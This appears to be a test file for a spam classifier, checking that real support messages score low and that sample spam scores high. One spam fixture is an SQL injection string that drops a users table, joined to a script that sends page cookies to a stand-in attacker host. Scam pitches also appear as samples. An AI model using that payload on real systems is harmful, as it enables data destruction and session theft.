// The text block as a whole on realistic messages: legitimate ones (support requests with prices,
// a link or two, other languages, short replies, a frustrated customer) stay GOOD (< 1); clear
// spam of each family reaches BAD (≥ 5) from the text alone.
import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { SOURCE_BANDS } from '../../src/classifier/sources.js';
import { loadLanguageDetector, type LanguageDetector } from '../../src/classifier/text/index.js';
import { analyze, fired } from '../helpers/classifier-text.js';

let detector: LanguageDetector;
before(async () => {
  detector = await loadLanguageDetector();
});

const LEGITIMATE: readonly (readonly string[])[] = [
  ['ok thanks!!'],
  ['Thanks, that fixed it :)'],
  ['Hi, I was charged $49.99 twice for my subscription in March (invoice INV-2024-0412). Could you refund one of the payments? Thanks!'],
  ['Hello, the checkout page https://shop.example.com/checkout shows an error after I enter my card. Screenshot: https://imgur.com/a/xYz12. Can you help?'],
  ['Guten Tag, ich habe am 3. März die Bestellung 48213 aufgegeben und noch keine Versandbestätigung erhalten. Können Sie bitte nachsehen? Viele Grüße, Anna Müller'],
  ["Bonjour, je souhaiterais savoir si vous livrez en Belgique et quels sont les frais de port pour une commande de 120 €. Merci d'avance !"],
  ['Hola, ¿tienen descuento para estudiantes? Me interesa el plan anual de 99 €. ¡Gracias!'],
  ['Buongiorno, vorrei sapere se il prodotto è disponibile in taglia M. Grazie mille!'],
  ['Olá, gostaria de cancelar a minha assinatura. Obrigado.'],
  ['Hallo, ik wil graag mijn wachtwoord wijzigen maar ik krijg geen e-mail. Kunt u mij helpen?'],
  ['John Smith', 'john@example.com', 'Can we schedule a demo next week? We are a team of 40 people and pay about $2,000/month for our current tool.'],
  ['Your product is great but the damn export button does not work in Safari!!! Please fix it.'],
  ['We would like to offer your team a 10% discount on our annual conference tickets. Details at https://conf.example.org'],
  ['I tried to log in with my account but it says "invalid password". I reset it twice. What is going on???'],
  ['URGENT: our website is down since 8:00 and customers cannot pay. Please call me at +49 30 1234567.'],
  ['Hi! Love the app 😍🎉 Quick question: is there a dark mode?'],
  ['Can you send me the W-9 form and the invoice for order #5521 to accounting@example.com?'],
  ['My daughter uses your app for school; is it safe for kids? Is there any adult content?'],
  ['I work from home and the VPN drops every hour. We want to meet you next week to discuss the contract.'],
  ['I have bad credit, can I still apply for the loan? The interest rate on your page says 4.9%.'],
  ['Our pharmacy needs 20 licences; the prescription module crashes on Windows 11.'],
  ['Please unsubscribe me from the newsletter.'],
  ['Printing fails with error 0x80070005 on ASP.NET 4.8, see C:\\logs\\app.log and readme.md'],
  ['<b>Bold</b> text from my editor got pasted, sorry. The code is `SELECT name FROM users WHERE id = 3`.'],
];

const SPAM: readonly string[] = [
  'Buy cheap Viagra and Cialis online! No prescription needed. Discreet shipping worldwide: http://pharma-deals.example/shop',
  'Hello, I came across your website and noticed it is not ranking on the first page of Google. We offer SEO services, guest posts and high DA backlinks at affordable prices. Reply for a free audit!',
  'Best online casino 2024! Get 200 free spins and a no deposit bonus at https://bit.ly/3casino – play slots for real money!!!',
  'Dear Beneficiary, I am Barrister James, I have an inheritance fund of $10.5 million USD for you as next of kin. Kindly reply with your details to claim it via Western Union.',
  'Earn $5000 per week from home!!! Guaranteed profit with our crypto trading bot. Invest in Bitcoin now: www.crypto-profit.example',
  'Hot singles in your area want to meet you tonight 💋💋💋 click here: https://tinyurl.com/hotdate',
  'Sofortkredit ohne Schufa! Kredit sofort aufs Konto, jetzt bestellen: http://kredit-sofort.example',
  '<a href="http://spam.example/pills">cheap pills</a> <a href="http://spam.example/casino">online casino</a> [url=http://spam.example]viagra[/url]',
  'Get payday loans with no credit check! Instant approval, bad credit OK. Apply now at http://loans.example',
  "admin' OR 1=1; DROP TABLE users; -- <script>document.location='http://evil.example/?c='+document.cookie</script>",
  'sdkfjhsdkjfh kjsdhfkjsdhf qwkejhqwkjeh zxmcnbzxmcnb aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa',
];

test('legitimate messages stay GOOD (< 1)', () => {
  for (const texts of LEGITIMATE) {
    const block = analyze(texts, {}, { detector });
    assert.ok(block.score < 1, `${block.score} ${JSON.stringify(fired(block))}: ${texts.join(' | ')}`);
  }
});

test('clear spam reaches BAD under the default bands from the text alone', () => {
  for (const text of SPAM) {
    const block = analyze(text, {}, { detector });
    assert.ok(block.score >= SOURCE_BANDS.form.badScore, `${block.score} ${JSON.stringify(fired(block))}: ${text}`);
  }
});

test('a pharmacy pitch in full: every rule that fired and the total', () => {
  const block = analyze(SPAM[0]!, { expectedLanguages: ['en'] }, { detector });
  assert.deepEqual(fired(block), { LINKS: 0.1, PHARMACY: 5 });
  assert.deepEqual([block.score, block.language, block.classifier], [5.1, 'en', 'en']);
  assert.ok(block.time >= 0 && block.time < 1000);
});
